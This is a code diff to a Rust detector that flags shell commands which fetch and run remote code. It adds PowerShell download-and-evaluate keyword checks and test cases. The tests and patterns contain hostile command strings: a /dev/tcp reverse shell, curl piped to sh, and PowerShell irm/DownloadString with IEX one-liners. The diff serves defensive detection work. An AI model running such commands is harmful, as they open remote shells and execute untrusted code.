@@ -104,6 +104,7 @@ pub(crate) fn fetches_and_runs(command: &str) -> bool {
     command_runs_fetched(command)
         || names && text.contains("mshta")
         || powershell && hides(&text) && (names || is_encoded(&text))
+        || powershell && names && evaluates_fetched(&text)
         || text.contains("/dev/tcp/")
             && (text.contains("bash -i") || text.contains("0>&1") || text.contains("sh -i"))
         || ["nc -e ", "ncat -e ", "nc -c ", "bash -i >"]
@@ -138,6 +139,25 @@ pub(super) fn fetches_and_starts(command: &str) -> bool {
         "chmod +x",
         "start ",
         "start-process",
+    ])
+}
+
+/// Whether a script of PowerShell, in small letters, fetches and evaluates text. What goes from the one to the other by a
+/// variable is not followed: a script that is given whole in the code has no other use for both.
+fn evaluates_fetched(text: &str) -> bool {
+    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
+    has(&[
+        "downloadstring",
+        "downloaddata",
+        "irm ",
+        "iwr ",
+        "invoke-webrequest",
+        "invoke-restmethod",
+    ]) && has(&[
+        "iex",
+        "invoke-expression",
+        "scriptblock]::create",
+        "invoke-command",
     ])
 }
 
@@ -258,6 +278,19 @@ mod tests {
             ("curl https://a.example/x | sh", true),
             ("powershell -WindowStyle Hidden -EncodedCommand cABv", true),
             ("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", true),
+            ("bash -c \"$(curl -fsSL https://a.example/x)\"", true),
+            (
+                "powershell -nop -c \"& ([scriptblock]::Create((irm https://a.example/p)))\"",
+                true,
+            ),
+            (
+                "powershell -c \"$s=$w.DownloadString('https://a.example/p');IEX $s\"",
+                true,
+            ),
+            (
+                "powershell -c \"irm https://a.example/data.json -OutFile d.json\"",
+                false,
+            ),
             ("git clone https://a.example/x", false),
             ("curl -o data.csv https://a.example/x && start notes.txt", false),
             ("powershell -WindowStyle Hidden Get-Date", false),
